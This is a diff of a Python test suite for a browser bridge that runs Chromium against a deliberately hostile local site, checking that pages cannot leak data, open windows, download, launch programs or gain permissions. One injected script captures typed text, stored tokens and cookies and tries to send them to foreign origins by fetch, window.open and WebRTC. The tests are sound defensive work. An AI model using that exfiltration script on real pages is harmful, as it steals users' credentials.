@@ -6,7 +6,8 @@ import asyncio
 import os
 import sys
 from collections.abc import AsyncGenerator
-from contextlib import suppress
+from contextlib import asynccontextmanager, suppress
+from dataclasses import dataclass
 from pathlib import Path
 
 import psutil
@@ -20,6 +21,7 @@ from bridge.errors import BridgeError
 from bridge.settings import BrowserSettings
 from bridge.sites.contract import LeftSite
 from bridge.telemetry import Telemetry, WorkerState
+from bridge.worker.page_session import Session
 from tests.sites.test_driver_live import answer_to
 from tests.support.hostile import (
     COOKIE,
@@ -27,6 +29,7 @@ from tests.support.hostile import (
     HANG,
     STORMS,
     TOKEN,
+    HostileSite,
     Packets,
     Run,
     bridge_to,
@@ -57,6 +60,24 @@ CONNECT = """async port => {
   for (const peer of [one, other]) await peer.addIceCandidate({candidate, sdpMLineIndex: 0});
   await new Promise(done => setTimeout(done, 1500));
 }"""
+
+
+@dataclass(frozen=True)
+class Page:
+    """The account's page, and the site that serves it."""
+
+    site: HostileSite
+    session: Session
+
+
+@asynccontextmanager
+async def packets() -> AsyncGenerator[tuple[int, list[bytes]]]:
+    """Listen for UDP on a port of this machine, and yield that and what comes."""
+    received: list[bytes] = []
+    loop = asyncio.get_running_loop()
+    transport, _ = await loop.create_datagram_endpoint(lambda: Packets(received), local_addr=("127.0.0.1", 0))
+    yield transport.get_extra_info("sockname")[1], received
+    transport.close()
 
 
 @pytest.fixture(scope="module")
@@ -163,12 +184,23 @@ async def test_a_page_that_leaves_the_site_each_time_is_left_alone_after_the_thi
         assert foreign.pieces_of(TOKEN, COOKIE) == []
 
 
-async def test_nothing_of_another_origin_gets_into_the_profile(tmp_path: Path, full_chromium: Chromium) -> None:
-    async with (
-        foreign_origins() as (foreign, _),
-        hostile_site() as site,
-        page_of(tmp_path, full_chromium, site) as session,
-    ):
+@pytest.fixture(scope="module")
+async def shown(tmp_path_factory: pytest.TempPathFactory, full_chromium: Chromium) -> AsyncGenerator[Page]:
+    """The page of the tests that need no bridge."""
+    folder = tmp_path_factory.mktemp("shown")
+    async with hostile_site() as site, page_of(folder, full_chromium, site) as session:
+        yield Page(site, session)
+
+
+@pytest.fixture
+async def page(shown: Page) -> Page:
+    await shown.session.page.goto(shown.site.url)
+    return shown
+
+
+async def test_nothing_of_another_origin_gets_into_the_profile(page: Page) -> None:
+    site, session = page.site, page.session
+    async with foreign_origins() as (foreign, _):
         await session.page.goto(foreign.url)
         with pytest.raises(LeftSite):
             await session.capture(login_of(site), LIMIT)
@@ -179,15 +211,11 @@ async def test_nothing_of_another_origin_gets_into_the_profile(tmp_path: Path, f
         assert set(captured.session_storage) == {site.url}
 
 
-async def test_a_password_is_not_typed_into_another_origins_form(tmp_path: Path, full_chromium: Chromium) -> None:
-    async with (
-        foreign_origins() as (foreign, _),
-        hostile_site() as site,
-        page_of(tmp_path, full_chromium, site) as session,
-    ):
-        await session.page.goto(foreign.url)
+async def test_a_password_is_not_typed_into_another_origins_form(page: Page) -> None:
+    async with foreign_origins() as (foreign, _):
+        await page.session.page.goto(foreign.url)
         with pytest.raises(BridgeError, match="has left the site"):
-            await session.driver.sign_in("somebody@example.com", PROMPT)
+            await page.session.driver.sign_in("somebody@example.com", PROMPT)
         assert foreign.pieces_of(PROMPT, "somebody@example.com") == []
 
 
@@ -232,7 +260,7 @@ async def test_no_byte_of_a_page_reaches_this_machine_beside_the_site_itself(
 ) -> None:
     browser = BrowserSettings(check_every=0.5, call_limit=5)
     settings = cautious_settings(tmp_path, browser=browser)
-    async with foreign_origins() as (one, other), hostile_site() as site:
+    async with foreign_origins() as (one, other), hostile_site() as site, packets() as (port, received):
         profile = login_of(site)
         if keeps_folder:  # its browser gets the bounds at its start, and not with a context
             profile = profile.model_copy(update={"user_data_dir": "alice-1"})
@@ -242,36 +270,36 @@ async def test_no_byte_of_a_page_reaches_this_machine_beside_the_site_itself(
         async with page_of(tmp_path, chromium, site, profile, browser=browser) as session:
             for url in (one.url, other.url, one.url.replace("localhost", "127.0.0.1")):
                 await session.page.evaluate(REACH, [url, PROMPT.replace(" ", "-")])
+            await session.page.evaluate(CONNECT, port)
             with pytest.raises(PlaywrightError, match="net::"):
                 await session.page.goto(f"{one.url}/?{PROMPT}")
         await own.close()
-        assert (one.connections, other.connections) == (0, 0)
+        assert (one.connections, other.connections, received) == (0, 0, [])
 
 
-async def test_windows_that_a_page_opens_are_closed_and_downloads_refused(
+async def test_windows_that_a_page_opens_are_closed_and_downloads_refused(page: Page) -> None:
+    session = page.session
+    await session.page.evaluate("() => { for (let n = 0; n < 5; n++) window.open('/?' + n); }")
+    async with session.page.expect_download() as downloading:
+        await session.page.evaluate(
+            "() => Object.assign(document.createElement('a'), {href: '/big', download: 'big'}).click()"
+        )
+    assert await (await downloading.value).failure() is not None
+    await until(lambda: session.context.pages == [session.page])
+
+
+@pytest.mark.stress
+async def test_no_packet_of_webrtc_reaches_this_machine_where_hosts_are_named(
     tmp_path: Path, full_chromium: Chromium
 ) -> None:
-    async with hostile_site() as site, page_of(tmp_path, full_chromium, site) as session:
-        await session.page.evaluate("() => { for (let n = 0; n < 5; n++) window.open('/?' + n); }")
-        async with session.page.expect_download() as downloading:
-            await session.page.evaluate(
-                "() => Object.assign(document.createElement('a'), {href: '/big', download: 'big'}).click()"
-            )
-        assert await (await downloading.value).failure() is not None
-        await until(lambda: session.context.pages == [session.page])
-
-
-@pytest.mark.parametrize("policy", ["public", *stress("named")])
-async def test_no_packet_of_webrtc_reaches_this_machine(tmp_path: Path, full_chromium: Chromium, policy: str) -> None:
-    browser = BrowserSettings.model_validate({"hosts": policy})
-    packets: list[bytes] = []
-    loop = asyncio.get_running_loop()
-    transport, _ = await loop.create_datagram_endpoint(lambda: Packets(packets), local_addr=("127.0.0.1", 0))
-    port = transport.get_extra_info("sockname")[1]
-    async with hostile_site() as site, page_of(tmp_path, full_chromium, site, browser=browser) as session:
+    browser = BrowserSettings(hosts="named")
+    async with (
+        packets() as (port, received),
+        hostile_site() as site,
+        page_of(tmp_path, full_chromium, site, browser=browser) as session,
+    ):
         await session.page.evaluate(CONNECT, port)
-    transport.close()
-    assert packets == []
+    assert received == []
 
 
 @pytest.mark.browser
@@ -293,28 +321,47 @@ async def test_a_proxy_of_the_operators_own_is_said_to_decide_what_pages_reach(
     assert "browser.hosts has no effect" in said
 
 
-@pytest.mark.browser
-@pytest.mark.skipif(sys.platform != "linux", reason="other systems start programs in other ways")
-async def test_a_page_starts_no_other_program(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    trace = tmp_path / "trace"
+@dataclass(frozen=True)
+class Machine:
+    """A browser on a machine that has a camera, and programs for mail, calls and the like."""
+
+    chromium: Chromium
+    trace: Path
+    """Where the programs write down that they were started."""
+
+
+@pytest.fixture(scope="module")
+async def machine(tmp_path_factory: pytest.TempPathFactory) -> AsyncGenerator[Machine]:
+    folder = tmp_path_factory.mktemp("machine")
+    trace = folder / "trace"
     for name in ("xdg-open", "xdg-email"):
-        program = tmp_path / "bin" / name
+        program = folder / "bin" / name
         program.parent.mkdir(exist_ok=True)
         program.write_text(f"#!/bin/sh\necho $0 $@ >> {trace}\n")
         program.chmod(0o700)
-    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:{os.environ['PATH']}")
-    own = Chromium(settings_for(tmp_path, browser=BrowserSettings()), Telemetry())
-    try:
-        async with hostile_site() as site, bridge_to(tmp_path, own, site) as run:
-            for scheme in ("mailto:a@example.com", "tel:1", "vscode://x"):
-                await site.order(f"location = '{scheme}'; setTimeout(() => fetch('/went'), 1500)")
-                await until(lambda: "/went" in site.paths)
-                site.paths.clear()
-                site.listening.set()
-            assert await run.ask("hello") == answer_to("hello")
-    finally:
-        await own.close()
-    assert not trace.exists(), trace.read_text()
+    browser = BrowserSettings(args=("--use-fake-device-for-media-stream",), call_limit=5)
+    own = Chromium(settings_for(folder, browser=browser), Telemetry())
+    with pytest.MonkeyPatch.context() as patched:
+        patched.setenv("PATH", f"{folder / 'bin'}:{os.environ['PATH']}")
+        async with own.context({}):  # starts it
+            pass
+    yield Machine(own, trace)
+    await own.close()
+
+
+@pytest.mark.browser
+@pytest.mark.skipif(sys.platform != "linux", reason="other systems start programs in other ways")
+async def test_a_page_starts_no_other_program(tmp_path: Path, machine: Machine) -> None:
+    async with hostile_site() as site, bridge_to(tmp_path, machine.chromium, site) as run:
+        for scheme in ("mailto:a@example.com", "tel:1", "vscode://x"):
+            await site.order(f"location = '{scheme}'; setTimeout(() => fetch('/went'), 1500)")
+            await until(lambda: "/went" in site.paths)
+            site.paths.clear()
+            site.listening.set()
+        assert await run.ask("hello") == answer_to("hello")
+    browser = dict(await machine.chromium.processes())["browser"]
+    assert psutil.Process(browser).environ()["PATH"].startswith(f"{machine.trace.parent}")
+    assert not machine.trace.exists(), machine.trace.read_text()
 
 
 PERMISSIONS = {
@@ -333,53 +380,38 @@ PERMISSIONS = {
 
 
 @pytest.mark.browser
-async def test_what_a_person_would_have_to_allow_is_denied(tmp_path: Path) -> None:
-    browser = BrowserSettings(args=("--use-fake-device-for-media-stream",), call_limit=3)
-    own = Chromium(settings_for(tmp_path, browser=browser), Telemetry())
-    try:
-        async with hostile_site() as site, page_of(tmp_path, own, site) as session:
-            for what, asking in PERMISSIONS.items():
-                async with asyncio.timeout(LIMIT):
-                    got = await session.page.evaluate(f"() => {asking}.then(() => 'granted', () => 'denied')")
-                assert got == "denied", what
-    finally:
-        await own.close()
+async def test_what_a_person_would_have_to_allow_is_denied(tmp_path: Path, machine: Machine) -> None:
+    async with hostile_site() as site, page_of(tmp_path, machine.chromium, site) as session:
+        for what, asking in PERMISSIONS.items():
+            async with asyncio.timeout(LIMIT):
+                got = await session.page.evaluate(f"() => {asking}.then(() => 'granted', () => 'denied')")
+            assert got == "denied", what
 
 
-@pytest.mark.browser
 @pytest.mark.parametrize("storms", [(HANG,), *stress((STORMS,))])
 async def test_a_page_that_does_all_of_it_with_what_is_typed_gets_no_byte_out_and_hurts_no_later_chat(
-    tmp_path: Path, storms: tuple[str, ...]
+    tmp_path: Path, full_chromium: Chromium, storms: tuple[str, ...]
 ) -> None:
-    browser = BrowserSettings(check_every=0.5, call_limit=5, page_memory=700)
-    own = Chromium(settings_for(tmp_path / "own", browser=browser), Telemetry())
-    packets: list[bytes] = []
-    loop = asyncio.get_running_loop()
-    transport, _ = await loop.create_datagram_endpoint(lambda: Packets(packets), local_addr=("127.0.0.1", 0))
-    port = transport.get_extra_info("sockname")[1]
-    try:
-        async with foreign_origins() as (foreign, other), hostile_site() as site:
-            site.on_load = f"""addEventListener("input", event => {{
-              const secret = encodeURIComponent(event.target.value + localStorage.userToken + document.cookie);
-              for (const url of ["{foreign.url}", "{other.url.replace("localhost", "127.0.0.1")}"]) {{
-                ({REACH})([url, secret]);
-                open(url + "/?" + secret);
-                open("/window");
-                fetch("/leads?to=" + url, {{method: "POST", body: secret}});
-              }}
-              ({CONNECT})({port});
-            }}, true);"""
-            async with bridge_to(tmp_path, own, site, browser=browser) as run:
-                for act in ("1", f"location = '{foreign.url}/?' + localStorage.userToken", *storms, GREEDY):
-                    site.during = act
-                    with suppress(APIStatusError):
-                        assert await run.ask(PROMPT) == answer_to(PROMPT)
-                site.on_load = site.during = ""
-                await site.order("location.reload()")
-                await comes_back(run)
-            assert len(site.received) >= 3
-            assert (foreign.pieces_of(PROMPT, TOKEN, COOKIE), other.pieces_of(PROMPT, TOKEN, COOKIE)) == ([], [])
-            assert (foreign.connections, other.connections, packets) == (0, 0, [])
-    finally:
-        transport.close()
-        await own.close()
+    browser = BrowserSettings(check_every=0.5, call_limit=5)
+    async with foreign_origins() as (foreign, other), hostile_site() as site, packets() as (port, received):
+        site.on_load = f"""addEventListener("input", event => {{
+          const secret = encodeURIComponent(event.target.value + localStorage.userToken + document.cookie);
+          for (const url of ["{foreign.url}", "{other.url.replace("localhost", "127.0.0.1")}"]) {{
+            ({REACH})([url, secret]);
+            open(url + "/?" + secret);
+            open("/window");
+            fetch("/leads?to=" + url, {{method: "POST", body: secret}});
+          }}
+          ({CONNECT})({port});
+        }}, true);"""
+        async with bridge_to(tmp_path, full_chromium, site, browser=browser) as run:
+            for act in ("1", f"location = '{foreign.url}/?' + localStorage.userToken", *storms, GREEDY):
+                site.during = act
+                with suppress(APIStatusError):
+                    assert await run.ask(PROMPT) == answer_to(PROMPT)
+            site.on_load = site.during = ""
+            await site.order("location.reload()")
+            await comes_back(run)
+        assert len(site.received) >= 3
+        assert (foreign.pieces_of(PROMPT, TOKEN, COOKIE), other.pieces_of(PROMPT, TOKEN, COOKIE)) == ([], [])
+        assert (foreign.connections, other.connections, received) == (0, 0, [])
